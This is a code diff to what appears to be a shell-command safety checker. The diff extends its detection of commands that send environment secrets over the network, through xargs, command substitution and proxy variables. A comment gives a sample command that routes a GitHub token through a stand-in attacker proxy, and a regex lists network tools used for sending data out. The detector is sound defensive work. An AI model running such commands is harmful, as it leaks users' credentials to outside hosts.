@@ -3,6 +3,7 @@ import type { SimpleCommand } from '../shell/extract.js';
 import type { Arg } from '../shell/words.js';
 import { dangerous, unsure } from '../verdicts.js';
 import { judgeSecretDestination } from './exfil-destinations.js';
+import { routingAssignment } from './secret-reroute.js';
 
 /**
  * Secrets printed from the environment. A command whose OUTPUT carries the value of a
@@ -52,7 +53,7 @@ function headOf(cmd: SimpleCommand): string {
 
 /** Filters whose output is their input, transformed or reordered: a secret goes through them. */
 const PASS_THROUGH =
-  /^(cat|tee|base64|base32|basenc|xxd|od|hexdump|hd|head|tail|sort|uniq|tr|rev|sed|awk|gawk|mawk|cut|grep|egrep|fgrep|rg|fold|fmt|column|less|more|nl|paste|strings|iconv|expand|unexpand|tac|jq|yq|pbcopy|xclip|xsel|wl-copy|clip|xargs|ts)$/;
+  /^(cat|tee|base64|base32|basenc|gzip|bzip2|xz|zstd|lz4|brotli|xxd|od|hexdump|hd|head|tail|sort|uniq|tr|rev|sed|awk|gawk|mawk|cut|grep|egrep|fgrep|rg|fold|fmt|column|less|more|nl|paste|strings|iconv|expand|unexpand|tac|jq|yq|pbcopy|xclip|xsel|wl-copy|clip|xargs|ts)$/;
 const NETWORK =
   /^(curl|wget|nc|ncat|netcat|socat|telnet|ssh|http|https|xh|mosh|ftp|sftp|scp|aria2c|openssl)$/;
 
@@ -61,6 +62,8 @@ interface Emitted {
   readonly what: string;
   /** The whole environment (a dump), not one named variable. */
   readonly dump: boolean;
+  /** The secret variables, when not a dump. */
+  readonly vars?: readonly string[];
 }
 
 /** Options of env that take a value; a lone `-` is `-i`. */
@@ -70,7 +73,7 @@ const ENV_VALUED = /^-[uCS]$|^--(unset|chdir|split-string)$/;
 export function emittedSecret(name: string, args: readonly Arg[], cmd: SimpleCommand): Emitted | undefined {
   const dump = (what: string): Emitted => ({ what, dump: true });
   const named = (vars: readonly string[]): Emitted | undefined =>
-    vars.length ? { what: [...new Set(vars)].map((v) => `$${v}`).join(', '), dump: false } : undefined;
+    vars.length ? { what: [...new Set(vars)].map((v) => `$${v}`).join(', '), dump: false, vars } : undefined;
   const values = args.map((a) => a.value);
   const operands = values.filter((v) => !v.startsWith('-'));
   switch (name) {
@@ -152,7 +155,22 @@ function patternOf(values: readonly string[]): string | undefined {
 }
 
 /** Where a command's stdout ends up. */
-type Sink = 'transcript' | 'hidden' | { readonly network: SimpleCommand };
+type Sink = 'transcript' | 'hidden' | { readonly network: SimpleCommand; readonly captured?: boolean };
+
+/** xargs options that take a value (the next word, or attached). */
+const XARGS_VALUED =
+  /^(-[IaEdLnPs]|--(arg-file|delimiter|max-lines|max-args|max-procs|max-chars|process-slot-var|replace|eof))$/;
+
+/** The command xargs runs (`xargs -I{} curl …` → curl), as a word index into its argv. */
+function xargsCommand(cmd: SimpleCommand): number {
+  for (let i = 1; i < cmd.argv.length; i++) {
+    const v = cmd.argv[i]!.value;
+    if (v === '--') return i + 1;
+    if (!v.startsWith('-')) return i;
+    if (XARGS_VALUED.test(v)) i++;
+  }
+  return cmd.argv.length;
+}
 
 const STD_STREAMS = /^\/dev\/(stdout|stderr|tty|fd\/[12])$/;
 
@@ -171,13 +189,21 @@ function sinkOf(cmd: SimpleCommand, dump: boolean, seen = 0): Sink {
     const name = headOf(next);
     if (isNetworkSink(name, next)) return { network: next };
     if (!PASS_THROUGH.test(name) || filterHides(next, dump)) return 'hidden';
-    if (name === 'xargs' && next.argv.length > 1 && !/^(echo|printf)$/.test(next.argv[1]!.value))
-      return 'hidden';
+    if (name === 'xargs') {
+      // `… | xargs -I{} curl https://x/{}`: the input becomes the network tool's arguments
+      const at = xargsCommand(next);
+      const run = next.argv[at]?.value.split('/').pop() ?? '';
+      if (isNetworkSink(run, { ...next, argv: next.argv.slice(at) })) return { network: next };
+      if (at < next.argv.length && !/^(echo|printf)$/.test(run)) return 'hidden';
+    }
     return sinkOf(next, dump, seen + 1);
   }
   const by = cmd.capturedBy;
-  // `echo "$(printenv TOKEN)"` prints it; `curl -H "…$(…)"` or `X=$(…)` uses it
-  if (by) return /^(echo|printf|print)$/.test(headOf(by)) ? sinkOf(by, dump, seen + 1) : 'hidden';
+  // `echo "$(printenv TOKEN)"` prints it; `curl -H "…$(…)"` sends it; `X=$(…)` uses it
+  if (by) {
+    if (isNetworkSink(headOf(by), by)) return { network: by, captured: true };
+    return /^(echo|printf|print)$/.test(headOf(by)) ? sinkOf(by, dump, seen + 1) : 'hidden';
+  }
   return 'transcript';
 }
 
@@ -202,12 +228,41 @@ export function judgeSecretOutput(
   args: readonly Arg[],
   cmd: SimpleCommand,
 ): Analysis | undefined {
+  const output = judgeOutput(name, args, cmd);
+  if (output?.kind === 'dangerous') return output;
+  return proxiedSecret(name, args, cmd) ?? output;
+}
+
+/** `https_proxy=http://evil.example curl -H "Authorization: token $GITHUB_TOKEN" …`: the proxy sees the token. */
+function proxiedSecret(name: string, args: readonly Arg[], cmd: SimpleCommand): Analysis | undefined {
+  if (!isNetworkSink(name, cmd) && !/^(http|https|xh|xhs|aria2c|curlie)$/.test(name)) return undefined;
+  const routed = routingAssignment(cmd);
+  if (!routed) return undefined;
+  const vars = [...new Set([...secretVars(args), ...(cmd.stdinVars ?? []).filter(isSecretName)])];
+  if (vars.length === 0) return undefined;
+  return unsure(
+    'secret-to-network',
+    `${name} sends ${vars.map((v) => `$${v}`).join(', ')} through ${routed}, a host the URL does not decide; a credential goes only to the service it belongs to`,
+  );
+}
+
+function judgeOutput(name: string, args: readonly Arg[], cmd: SimpleCommand): Analysis | undefined {
   const stdin = cmd.stdinVars?.filter(isSecretName) ?? [];
   if (stdin.length && isNetworkSink(name, cmd)) return exfiltration(stdin.map((v) => `$${v}`).join(', '));
   const emitted = emittedSecret(name, args, cmd);
   if (!emitted) return undefined;
   const sink = sinkOf(cmd, emitted.dump);
   if (sink === 'hidden') return undefined;
+  if (sink !== 'transcript' && sink.captured && !emitted.dump) {
+    // one named secret captured into a network tool's arguments goes where a `$NAME` there would
+    const by = sink.network;
+    const carried = by.argv
+      .slice(1)
+      .map((a) =>
+        /\$\(|`/.test(a.value) ? { ...a, vars: [...(a.vars ?? []), ...(emitted.vars ?? [])] } : a,
+      );
+    return judgeSecretDestination(headOf(by), carried, isSecretName);
+  }
   if (sink !== 'transcript') return exfiltration(emitted.dump ? emitted.what : `the secret ${emitted.what}`);
   return emitted.dump
     ? unsure(
@@ -250,7 +305,7 @@ function computedDestination(name: string, args: readonly Arg[]): Analysis | und
 }
 
 /** Code that hands the environment to a child process rather than printing it (`env={**os.environ}`). */
-const CODE_ENV_PASSED =
+export const CODE_ENV_PASSED =
   /\*\*os\.environ|os\.environ\.copy\(\)|env\s*=\s*(dict\()?os\.environ\)?|\.\.\.process\.env|env\s*:\s*process\.env|Object\.keys\(\s*process\.env\s*\)|os\.environ\.keys\(\)|ENV\.keys/g;
 /** The whole environment: os.environ, process.env, ENV.each, %ENV, getenv(), ENVIRON loops, Deno.env.toObject(). */
 const CODE_ENV_ALL =
